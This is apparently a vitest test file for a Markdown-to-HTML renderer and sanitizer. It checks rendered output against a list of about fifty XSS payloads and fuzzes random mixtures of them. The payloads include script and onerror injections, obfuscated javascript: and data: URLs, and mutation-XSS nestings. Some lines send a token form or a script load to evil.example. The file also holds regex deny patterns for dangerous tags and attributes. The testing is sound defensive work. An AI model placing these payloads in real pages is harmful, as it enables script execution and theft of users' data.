import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { tokenizeHtml } from "../../../src/standin/page/markdown/html-tokens.ts";
import { renderMarkdown } from "../../../src/standin/page/markdown/render-markdown.ts";
import { sanitizeHtml } from "../../../src/standin/page/markdown/sanitize-html.ts";

const context = { repository: "o/r", knows: (number: number) => number === 7 };
const render = (source: string): string => renderMarkdown(source, context).text;

/** What every tag of a rendering may look like; anything else is a leak. */
const SAFE_TAG =
  /^<(?:\/?[a-z][a-z0-9]*|[a-z][a-z0-9]*(?: (?:href="(?:https?:|mailto:|[/#?]|[^":]*(?="))[^"<>]*"|[a-z-]+(?:="[^"<>]*")?))*)>$/;
const NEVER =
  /<(?:script|style|iframe|object|embed|svg onload|form|base|meta|link|img|textarea|title|template|noscript|math)\b/i;

/** What could run, load or break out: every tag that is not as {@link SAFE_TAG} and {@link NEVER} want it, and every unbalanced one. */
function leaks(html: string): string[] {
  const bad = (html.match(/<[^>]*>/g) ?? []).filter(
    (tag) =>
      !SAFE_TAG.test(tag) ||
      NEVER.test(tag) ||
      /\s(?:on\w*|style|id|src|srcset|srcdoc|action|formaction|xlink)\b/i.test(tag.replaceAll(/"[^"]*"/g, "")) ||
      /=\s*"\s*(?:javascript|data|vbscript):/i.test(tag),
  );
  return [...bad, ...unbalanced(html)];
}

/** Element names that are closed without having been opened, or stay open. */
function unbalanced(html: string): string[] {
  const open: string[] = [];
  const wrong: string[] = [];
  for (const [, slash, name = ""] of html.matchAll(/<(\/?)([a-z][a-z0-9]*)[^>]*>/g)) {
    if (["br", "hr", "wbr", "input"].includes(name)) continue;
    if (slash === "") open.push(name);
    else if (open.pop() !== name) wrong.push(name);
  }
  return [...wrong, ...open];
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
  "<script\n>alert(1)</script\n>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<a href=javascript:alert(1)>x</a>",
  '<a href=" \t\njava\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\u200bscript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  "[x](javascript:alert%281%29)",
  "[x](<javascript:alert(1)>)",
  "[x](  javascript:alert)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](javascript:alert)",
  '![x" onload="alert(1)](https://e.example/x.png)',
  '[x](https://e.example "t\\" onmouseover=\\"alert(1)")',
  '<p style="position:fixed" class="state" id="live" onclick=alert(1)>x</p>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<form action="https://evil.example"><input name=token><button>go</button></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  "</div></div></main></body><h1>mine now</h1>",
  "<table><tr><td></table></div><p>",
  "<!-- hidden --!><script>alert(1)</script>",
  "<!--> <script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php <script>alert(1)</script> ?>",
  "<div title='a' title=\"b\" TITLE=c onload>",
  "<a href='x' href='javascript:alert(1)'>x</a>",
  '<b title="`onmouseover=alert(1)">x</b>',
  "```\n</code></pre><script>alert(1)</script>\n```",
  '``` "><script>alert(1)</script>\nx\n```',
  "```suggestion\n</td></table><script>alert(1)</script>\n```",
  "```mermaid\ngantt\ntitle </text><script>alert(1)</script>\nsection <img src=x>\n<b onclick=x> :a, 0s, 1s\n```",
  "`</code><script>`",
  '\u00000\u0000 <p title="\u00000\u0000">',
  "<textarea></textarea><title></title><xmp><plaintext>",
  "@<script> #7<script>",
] as const;

describe("Markdown on the page", () => {
  it.each(HOSTILE)("runs, loads and breaks out of nothing in %j", (source) => {
    expect(leaks(render(source))).toEqual([]);
    expect(
      leaks(render(`> - ${source}\n\n- [ ] ${source}\n\n| a |\n| - |\n| ${source.replaceAll("\n", " ")} |`)),
    ).toEqual([]);
  });

  it("stays harmless for any mixture of hostile pieces", () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        "<",
        ">",
        '"',
        "'",
        "&",
        "=",
        "/",
        "\n",
        " ",
        "\0",
        "0",
        "`",
        "```\n",
        "<!--",
        "-->",
        "<a href=",
        "<b ",
        "</b>",
        "[",
        "](",
        ")",
      ),
      fc.string({ maxLength: 8 }),
    );

    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(leaks(render(pieces.join("")))).toEqual([]);
      }),
      { numRuns: 400 },
    );
  });

  it("leaves no angle bracket that is not a tag it wrote", () => {
    const unit = fc.constantFrom("<", ">", "a", "b", "/", "!", "-", "=", '"', "'", " ", "?", "&lt;");

    fc.assert(
      fc.property(fc.string({ unit }), (source) => {
        const rest = sanitizeHtml(source).text.replaceAll(/<\/?[ab](?: [^<>]*)?>/g, "");

        expect(rest).not.toMatch(/[<>]/);
      }),
    );
  });

  it("keeps every character of a text without tags", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("<", ">", "1", " ", "=", '"', "é") }), (source) => {
        const text = [...tokenizeHtml(source)].map((token) => (token.kind === "text" ? token.raw : "")).join("");

        expect(text).toBe(source);
      }),
    );
  });

  it("shows the HTML that GitHub shows", () => {
    const html = render(
      "<details open><summary>More</summary>\n\n**bold** H<sub>2</sub>O <kbd>Ctrl</kbd><br>next\n\n</details>",
    );

    expect(html).toMatch(
      /^<details open=""><summary>More<\/summary>\s*<p><strong>bold<\/strong> H<sub>2<\/sub>O <kbd>Ctrl<\/kbd><br>next/,
    );
  });

  it("hides HTML comments, so markers stay invisible", () => {
    const html = render('Done.\n\n<!-- parallel-review:status v1 {"head":"abc"} -->');

    expect(html).toBe("<p>Done.</p>\n");
  });

  it("renders task lists as checkboxes nobody can click", () => {
    const html = render("- [x] one\n- [ ] two");

    expect(html.match(/<input type="checkbox"[^>]*>/g)).toEqual([
      '<input type="checkbox" class="task" checked disabled aria-label="Completed task">',
      '<input type="checkbox" class="task" disabled aria-label="Incomplete task">',
    ]);
  });

  it("renders tables, strikethrough and bare addresses", () => {
    const html = render("| a | b |\n| --- | ---: |\n| 1 | ~~2~~ |\n\nhttps://example.com/x");

    expect(html).toContain('<td align="right"><del>2</del></td>');
    expect(html).toContain('<a href="https://example.com/x" rel="nofollow noopener">https://example.com/x</a>');
  });

  it("renders an alert with its title, and an unknown one as a quotation", () => {
    expect(render("> [!WARNING]\n> Mind the `gap`.")).toMatch(
      /<div class="alert alert-warning">.*Warning<\/p><p>Mind the <code>gap<\/code>\.<\/p>\s*<\/div>/s,
    );
    expect(render("> [!OTHER]\n> text")).toContain("<blockquote>");
  });

  it("links pull requests it knows, and nothing in code or in links", () => {
    const html = render("#7 #8 `#7` [#7](https://e.example) @mara");

    expect(html).toContain('<a href="/o/r/pull/7">#7</a> #8 <code>#7</code>');
    expect(html).toContain('<a href="https://e.example" rel="nofollow noopener">#7</a> <b class="mention">@mara</b>');
  });

  it("turns a picture into a link, for a picture is a request to elsewhere", () => {
    expect(render("![a chart](https://e.example/c.png)")).toBe(
      '<p><a href="https://e.example/c.png" rel="nofollow noopener">a chart</a></p>\n',
    );
  });

  it("shows text that nests too deep for the parser, or for a browser, without failing", () => {
    expect(leaks(render(">".repeat(6000)))).toEqual([]);
    expect(leaks(render(`${"<b>".repeat(2000)}x${"</i></b>".repeat(2000)}`))).toEqual([]);
  });

  it("shows a suggestion as the change it would make", () => {
    const commented = { startLine: 4, lines: ["const a = 1;", "const b = 2;"], language: "ts" };

    const html = renderMarkdown("```suggestion\nconst a = <3>;\n```", { ...context, commented }).text;

    const rows = [...html.matchAll(/<tr class="(\w+)">.*?<td class="code">(.*?)<\/td><\/tr>/g)];
    expect(rows.map(([, kind, code = ""]) => `${kind ?? ""} ${code.replaceAll(/<[^>]+>/g, "")}`)).toEqual([
      "deleted -const a = 1;",
      "deleted -const b = 2;",
      "added +const a = &lt;3&gt;;",
    ]);
    expect(html).toContain('<td class="num">5</td><td class="num"></td>');
  });

  it("shows an empty suggestion as a deletion, and one without lines as code", () => {
    const commented = { startLine: 4, lines: ["x"], language: "ts" };

    expect(renderMarkdown("```suggestion\n```", { ...context, commented }).text).not.toContain('class="added"');
    expect(render("```suggestion\ny\n```")).toContain("<pre><code>y\n</code></pre>");
  });
});
